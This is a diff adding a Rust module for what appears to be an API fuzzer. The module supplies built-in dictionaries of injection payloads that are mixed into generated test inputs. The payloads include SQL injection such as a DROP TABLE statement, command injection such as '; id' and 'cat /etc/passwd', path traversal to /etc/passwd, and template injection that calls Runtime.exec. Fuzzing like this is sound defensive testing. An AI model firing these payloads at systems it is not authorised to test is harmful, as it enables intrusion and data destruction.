@@ -0,0 +1,313 @@
+use std::{collections::HashMap, rc::Rc};
+
+use proptest::strategy::{BoxedStrategy, Strategy};
+use serde::{Deserialize, Serialize};
+
+const SQL_INJECTION: &[&str] = &[
+    "'",
+    "\"",
+    "' OR '1'='1",
+    "' OR 1=1--",
+    "\" OR \"1\"=\"1",
+    "1' ORDER BY 1--",
+    "1 UNION SELECT NULL--",
+    "' UNION SELECT NULL,NULL--",
+    "'; DROP TABLE users--",
+    "1; SELECT pg_sleep(5)--",
+    "1' AND SLEEP(5)--",
+    "'; WAITFOR DELAY '0:0:5'--",
+    "admin'--",
+    "\\'",
+    "%27",
+];
+
+const NOSQL_INJECTION: &[&str] = &[
+    "{\"$ne\": null}",
+    "{\"$gt\": \"\"}",
+    "{\"$regex\": \".*\"}",
+    "{\"$where\": \"sleep(5000)\"}",
+    "[$ne]=1",
+    "$ne",
+    "$where",
+    "'; return true; var a='",
+    "this.constructor.constructor('return process')()",
+    "__proto__",
+    "constructor",
+];
+
+const PATH_TRAVERSAL: &[&str] = &[
+    "../../../../../../etc/passwd",
+    "..\\..\\..\\..\\..\\..\\windows\\win.ini",
+    "....//....//....//etc/passwd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252fetc%252fpasswd",
+    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
+    "/etc/passwd",
+    "/etc/passwd\u{0}.png",
+    "file:///etc/passwd",
+    "C:\\Windows\\win.ini",
+    "\\\\localhost\\c$\\windows\\win.ini",
+];
+
+const TEMPLATE_INJECTION: &[&str] = &[
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{7*'7'}}",
+    "${{7*7}}",
+    "{{config.items()}}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "*{7*7}",
+    "{% debug %}",
+    "${jndi:ldap://127.0.0.1/a}",
+];
+
+const COMMAND_INJECTION: &[&str] = &[
+    "; id",
+    "| id",
+    "|| id",
+    "& id",
+    "&& id",
+    "`id`",
+    "$(id)",
+    "\nid\n",
+    "; sleep 5",
+    "| ping -c 5 127.0.0.1",
+    "& ping -n 5 127.0.0.1 &",
+    "a;cat /etc/passwd",
+    "-h",
+    "--help",
+];
+
+const FORMAT_STRING: &[&str] = &[
+    "%s",
+    "%s%s%s%s%s%s%s%s%s%s",
+    "%x%x%x%x",
+    "%n",
+    "%n%n%n%n",
+    "%p%p%p%p",
+    "%d%d%d%d",
+    "%99999999999s",
+    "{0}",
+    "{}",
+    "{0.__class__}",
+    "%1$s",
+];
+
+const UNICODE: &[&str] = &[
+    "\u{0}",
+    "a\u{0}b",
+    "\u{FEFF}",
+    "\u{200B}",
+    "\u{202E}gnp.exe",
+    "\u{212A}",
+    "\u{FB00}",
+    "\u{0130}",
+    "\u{00DF}",
+    "e\u{0301}",
+    "\u{1F4A9}",
+    "\u{FF1C}script\u{FF1E}",
+    "\u{FF0E}\u{FF0E}\u{FF0F}",
+    "\u{FFFD}",
+    "\u{10FFFF}",
+    "Z\u{0351}\u{0337}\u{0334}\u{033E}",
+    "\r\n",
+    "\u{2028}",
+];
+
+/// Numbers which are not generated for numeric schemas, e.g. beyond the range
+/// of floats or in notations JSON does not allow
+const NUMERIC: &[&str] = &[
+    "-0.0e0",
+    "1e-400",
+    "340282366920938463463374607431768211456",
+    "NaN",
+    "Infinity",
+    "-Infinity",
+    "1e309",
+    "-1e309",
+    "4.9e-325",
+    "1e1000000",
+    "18446744073709551616",
+    "99999999999999999999999999999999999999999999999999",
+    "0.1000000000000000055511151231257827021181583404541015625",
+    "0x7fffffff",
+    "0b1",
+    "1_000",
+    "01",
+    "+1",
+    "1.",
+    ".1",
+];
+
+/// String entered into generated strings, either from the built-in
+/// dictionaries or from a wordlist
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct DictionaryEntry {
+    /// Name of the built-in dictionary or the file of the wordlist
+    pub dictionary: String,
+    pub value: String,
+}
+
+/// Attack payloads mixed into generated strings, as random strings almost
+/// never hit injection bugs
+#[derive(Debug, Default)]
+pub struct Dictionary {
+    entries: Rc<Vec<DictionaryEntry>>,
+    indices: HashMap<String, usize>,
+    /// Indices of the entries which may be sent in header values
+    header_entries: Rc<Vec<usize>>,
+}
+
+impl Dictionary {
+    /// Returns the built-in dictionaries
+    pub fn builtin() -> Self {
+        let huge = |pattern: &str, length: usize| pattern.repeat(length / pattern.len());
+        let mut dictionary = Dictionary::default();
+        dictionary.add("sql injection", SQL_INJECTION.iter().copied());
+        dictionary.add("nosql injection", NOSQL_INJECTION.iter().copied());
+        dictionary.add("path traversal", PATH_TRAVERSAL.iter().copied());
+        dictionary.add("template injection", TEMPLATE_INJECTION.iter().copied());
+        dictionary.add("command injection", COMMAND_INJECTION.iter().copied());
+        dictionary.add("format string", FORMAT_STRING.iter().copied());
+        dictionary.add("unicode", UNICODE.iter().copied());
+        dictionary.add("numeric", NUMERIC.iter().copied());
+        dictionary.add(
+            "huge string",
+            [
+                huge("A", 1 << 12),
+                huge("A", 1 << 16),
+                huge("%s", 1 << 12),
+                huge("\u{1F4A9}", 1 << 16),
+                format!("{}'", huge("A", 1 << 12)),
+            ]
+            .iter()
+            .map(String::as_str),
+        );
+        dictionary
+    }
+
+    /// Adds a wordlist with one entry per line. Empty lines are skipped.
+    pub fn add_wordlist(&mut self, name: &str, wordlist: &str) {
+        self.add(
+            name,
+            wordlist
+                .lines()
+                .map(|line| line.strip_suffix('\r').unwrap_or(line))
+                .filter(|line| !line.is_empty()),
+        );
+    }
+
+    fn add<'a>(&mut self, name: &str, values: impl IntoIterator<Item = &'a str>) {
+        let entries = Rc::make_mut(&mut self.entries);
+        let header_entries = Rc::make_mut(&mut self.header_entries);
+        for value in values {
+            if !self.indices.contains_key(value) {
+                // Servers usually limit the size of all headers to a few
+                // kilobytes and refuse to read the ones with invalid characters
+                if value.len() <= 1024
+                    && value
+                        .chars()
+                        .all(|c| c.is_ascii_graphic() || c == ' ' || c == '\t')
+                {
+                    header_entries.push(entries.len());
+                }
+                self.indices.insert(value.to_string(), entries.len());
+                entries.push(DictionaryEntry {
+                    dictionary: name.to_string(),
+                    value: value.to_string(),
+                });
+            }
+        }
+    }
+
+    /// Generates the entries, only the ones which may be sent in header values
+    /// if `is_header`. Returns none if there are no such entries.
+    pub fn strategy(&self, is_header: bool) -> Option<BoxedStrategy<String>> {
+        let entries = self.entries.clone();
+        let value = move |index: usize| entries[index].value.clone();
+        if is_header {
+            let header_entries = self.header_entries.clone();
+            (!header_entries.is_empty()).then(|| {
+                (0..header_entries.len())
+                    .prop_map(move |index| value(header_entries[index]))
+                    .boxed()
+            })
+        } else {
+            (!self.entries.is_empty()).then(|| (0..self.entries.len()).prop_map(value).boxed())
+        }
+    }
+
+    /// Adds the entries which strings of the JSON value are equal to, unless
+    /// they are already among the `found` ones
+    pub fn find_entries(&self, value: &serde_json::Value, found: &mut Vec<DictionaryEntry>) {
+        match value {
+            serde_json::Value::String(string) => {
+                if let Some(&index) = self.indices.get(string) {
+                    if !found.contains(&self.entries[index]) {
+                        found.push(self.entries[index].clone());
+                    }
+                }
+            }
+            serde_json::Value::Array(items) => {
+                for item in items {
+                    self.find_entries(item, found);
+                }
+            }
+            serde_json::Value::Object(properties) => {
+                for property in properties.values() {
+                    self.find_entries(property, found);
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use proptest::{strategy::ValueTree, test_runner::TestRunner};
+
+    #[test]
+    fn test_wordlist() {
+        let mut dictionary = Dictionary::default();
+        dictionary.add_wordlist("words.txt", "admin\r\n\n' OR 1=1--\nadmin\n");
+        dictionary.add("sql injection", ["' OR 1=1--", "'"]);
+
+        assert_eq!(dictionary.entries.len(), 3);
+        assert_eq!(
+            dictionary.entries[1],
+            DictionaryEntry {
+                dictionary: "words.txt".to_string(),
+                value: "' OR 1=1--".to_string(),
+            }
+        );
+        assert_eq!(dictionary.entries[2].dictionary, "sql injection");
+    }
+
+    #[test]
+    fn test_entries() {
+        let mut runner = TestRunner::deterministic();
+        let mut dictionary = Dictionary::default();
+        assert!(dictionary.strategy(false).is_none());
+        dictionary.add_wordlist("words.txt", &format!("admin\n\u{0}\n{}", "A".repeat(2000)));
+
+        // Only the entries which are valid header values are sent in headers
+        let strategy = dictionary.strategy(true).unwrap();
+        for _ in 0..20 {
+            assert_eq!(strategy.new_tree(&mut runner).unwrap().current(), "admin");
+        }
+
+        let value = serde_json::json!({
+            "name": "admin",
+            "tags": ["\u{0}", "admin", "administrator"],
+            "admin": 1,
+        });
+        let mut found = vec![];
+        dictionary.find_entries(&value, &mut found);
+        assert_eq!(found, dictionary.entries[..2]);
+    }
+}